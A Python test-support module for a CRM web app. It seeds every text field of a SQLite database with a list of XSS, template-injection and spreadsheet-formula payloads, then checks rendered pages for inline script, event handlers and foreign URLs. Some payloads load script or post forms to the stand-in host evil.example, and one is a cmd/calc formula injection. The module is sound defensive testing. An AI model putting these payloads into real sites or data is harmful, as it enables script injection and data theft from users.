"""What people may type to make a page do what they want, and every text of a database filled with it."""

from __future__ import annotations

import json
import re
import sqlite3
from collections.abc import Callable, Iterator
from typing import Any

from pycrm import CRM
from pycrm.declare.kind import TextsKind

from .reading import Page

__all__ = ["MANY", "benign", "faults", "fill_texts", "links"]

# Out of an element, an attribute, a script or a style; by entities, cases, control characters and other alphabets; as
# addresses; as what templates and readers of tables take for their own.
MANY = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= /></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</option></select><iframe src=javascript:alert(1)>",
    "</td></tr></table><form action=//evil.example><input name=csrf>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    " onmouseover=alert(1) ",
    "/onmouseover=alert(1)/",
    '" style="position:fixed;inset:0" x="',
    "javascript:alert(1)//",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "\u0001javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/path",
    "https://evil.example/?<script>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "]]><!--<script>-->",
    "--><script>alert(1)</script><!--",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "\u202e<script>alert(1)</script>",
)
_OURS = {"/static/app.js"}
_NEVER = ("iframe", "object", "embed", "base", "style", "img", "image", "marquee", "video", "template")
_OWN = r"(/(?!/)|#|tel:|mailto:|$)"
# Left alone: what the product itself reads, which nobody can give another text than it knows.
_READ = {"entity", "field_name", "actions", "path", "condition", "flow", "query", "who", "route", "waits"}
_READ |= {"verdict", "options", "kept", "time_zone", "part", "pipeline", "stage"}
_LEFT = {"User.login", "CustomField.name"}


def faults(page: Page) -> list[str]:
    """What a page holds that none of ours may: inline script or style, handlers, foreign addresses."""
    found = []
    for tag, attributes in page.elements:
        if tag in _NEVER:
            found.append(tag)
        if tag == "script" and attributes.get("src", "").partition("?")[0] not in _OURS:
            found.append("script")
        for name, value in attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction", "xlink:href") and not re.match(_OWN, value):
                found.append(f"{tag} {name}={value}")
    return found


def benign(text: str) -> str:
    """A text of the same length and words, with letters in the place of signs.

    But for question marks: an address with one is shown and not linked.
    """
    return re.sub(r"[^\w\s?]", "a", text)


def fill_texts(crm: CRM, path: str, number: int, put: Callable[[str], str] = str) -> int:
    """Fill every text of every record with payloads, each field with another; gives the number of fields.

    Past the session, so that no rule of a field keeps one out. `number` says which payload comes first.
    """
    fields = list(_fields(crm))
    with sqlite3.connect(path) as connection:
        for at, (table, column, longest, is_list, is_left) in enumerate(fields):
            text = put(MANY[(at + number) % len(MANY)])[:longest]
            value = json.dumps([text, text[::-1]], ensure_ascii=False) if is_list else text
            # What has to differ keeps what it has after it.
            further = f" || ' ' || {column}" if is_left else ""
            query = f"UPDATE OR IGNORE {table} SET {column} = ?{further} WHERE {column} IS NOT NULL"
            connection.execute(query, (value,))
    connection.close()
    return len(fields)


def _fields(crm: CRM) -> Iterator[tuple[str, str, int, bool, bool]]:
    for cls in crm.records():
        for one in (cls, *crm.facets_of(cls), *_children(cls)):
            for spec in one.__specs__.values():
                is_left = spec.name in _READ or f"{one.__name__}.{spec.name}" in _LEFT or spec.derived
                if spec.kind is None or is_left:
                    continue
                is_list = isinstance(spec.kind, TextsKind)
                if spec.kind.name == "text" or is_list:
                    yield one.__tablename__, spec.columns[0], spec.longest, is_list, spec.unique


def _children(cls: Any) -> list[Any]:
    from pycrm.declare.record import child_class

    return [child_class(cls, spec) for spec in cls.__specs__.values() if spec.kind is None]


def links(page: Page) -> Iterator[str]:
    """The pages of our own that a page leads to."""
    for tag, attributes in page.elements:
        target = attributes.get("href", "").partition("#")[0]
        if tag == "a" and re.match(r"/(?!/|static|api)", target):
            yield target
